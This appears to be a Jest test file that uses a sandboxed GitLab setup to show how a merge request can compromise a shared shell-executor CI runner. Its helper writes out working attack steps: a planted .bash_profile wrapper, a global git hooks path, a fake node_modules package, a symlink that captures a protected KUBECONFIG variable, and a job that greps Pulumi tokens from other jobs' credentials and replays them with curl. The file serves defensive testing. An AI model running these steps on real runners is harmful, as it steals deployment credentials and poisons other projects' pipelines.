import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { flow } from "../flows";
import { type ChannelWorld, createChannelWorld } from "./channelWorld";
import { type LegitPlugin, serveLegitPlugin } from "./legitPlugin";
import { pushReviewed } from "./pipelines";

/**
 * What no CI file can prevent on a runner with GitLab's shell executor, which is why such a runner must not serve merge
 * requests and protected refs at once. All of its jobs are one user of one machine. The table leaves these ways out.
 */
let plugin: LegitPlugin;
let world: ChannelWorld;

jest.setTimeout(300_000);

const secret = "kept-runner-file-variable";

beforeAll(async () => {
  plugin = await serveLegitPlugin();
  world = await createChannelWorld(flow("eight lines"), plugin);
  const { gitlab, places, sandbox } = world;
  const variable = { key: "KUBECONFIG", value: secret, variable_type: "file", protected: true };
  await gitlab.call("platform", "POST", "variables", variable);
  await world.push("developer", "topic", { ".gitlab-ci.yml": mergeRequestFile(places.lootFile, places.traps) });
  const opened = { source_branch: "topic", target_branch: "main", title: "Topic" };
  await gitlab.call("developer", "POST", "merge_requests", opened);
  await sandbox.settled();
  const jobs = await gitlab.jobs(await gitlab.newestPipeline());
  world.keepRunner();
  await pushReviewed(world);
  await gitlab.call("developer", "POST", `jobs/${jobs.find(({ name }) => name === "look")?.id ?? 0}/retry`);
  await sandbox.settled();
});

afterAll(async () => {
  await world.close();
  await plugin.close();
});

test("a login profile that a merge request left runs before the first line of the CI file", () => {
  expect(readers(".bash_profile")).toContain("deploy-staging");
});

test("the runner's own git reads the settings that a merge request left in the home folder", () => {
  expect(readers(".gitconfig")).toContain("deploy-staging");
});

test("Node.js finds packages that a merge request left in a folder above the checkout", () => {
  expect(readers("node_modules")).toContain("deploy-staging");
});

test("the runner writes a file variable to where a merge request's link leads", () => {
  expect(readFileSync(join(world.places.traps, "KUBECONFIG"), "utf8")).toBe(secret);
});

// Jobs leave the Pulumi token of their login in the home folder that they make, which stays on such a runner.
test.failing("a later job of a merge request finds no token of a deployment in the runner's temporary folder", () => {
  const found = join(world.places.traps, "credentials");
  expect(existsSync(found) ? readFileSync(found, "utf8") : "").not.toContain("shop-api-staging");
});

function readers(what: string): readonly string[] {
  return world.places.loot().flatMap((line) => (line.what === what ? [line.reader] : []));
}

function mergeRequestFile(lootFile: string, traps: string): string {
  const line = (what: string): string => `echo "home folder|${what}|leave|$CI_JOB_NAME" >> ${lootFile}`;
  const appended = `"workspace|node_modules|leave|" + process.env.CI_JOB_NAME + "\\n"`;
  const script = [
    // Defined before GitLab's variables are there, it gets the arguments of the login, and so the ID token.
    `cat > ~/.bash_profile <<'END'\npulumi() { ${line(".bash_profile")}; command pulumi "$@"; }\nEND`,
    `mkdir -p ${traps}/hooks`,
    `cat > ${traps}/hooks/reference-transaction <<'END'\n#!/bin/sh\n${line(".gitconfig")}\nEND`,
    `chmod +x ${traps}/hooks/reference-transaction`,
    `git config --global core.hooksPath ${traps}/hooks`,
    'mkdir -p "$CI_BUILDS_DIR/node_modules/optional-dependency"',
    `cat > "$CI_BUILDS_DIR/node_modules/optional-dependency/index.js" <<'END'\nrequire("node:fs").appendFileSync("${lootFile}", ${appended});\nEND`,
    `ln -s ${traps}/KUBECONFIG "$RUNNER_TEMP_PROJECT_DIR/KUBECONFIG"`,
  ];
  const token =
    'curl -s -H "authorization: token $(grep -o "pul-[A-Za-z0-9]*" "$file" | head -n 1)" "$PULUMI_BACKEND_URL/api/user"';
  const look = `for file in "$TMPDIR"/tmp.*/.pulumi/credentials.json; do [ ! -f "$file" ] || ${token} >> ${traps}/credentials; done`;
  return [
    "workflow: { rules: [{ if: '$CI_PIPELINE_SOURCE == \"merge_request_event\"' }] }",
    `leave: { script: ${JSON.stringify(script)} }`,
    `look: { script: ${JSON.stringify([look])} }`,
    "",
  ].join("\n");
}
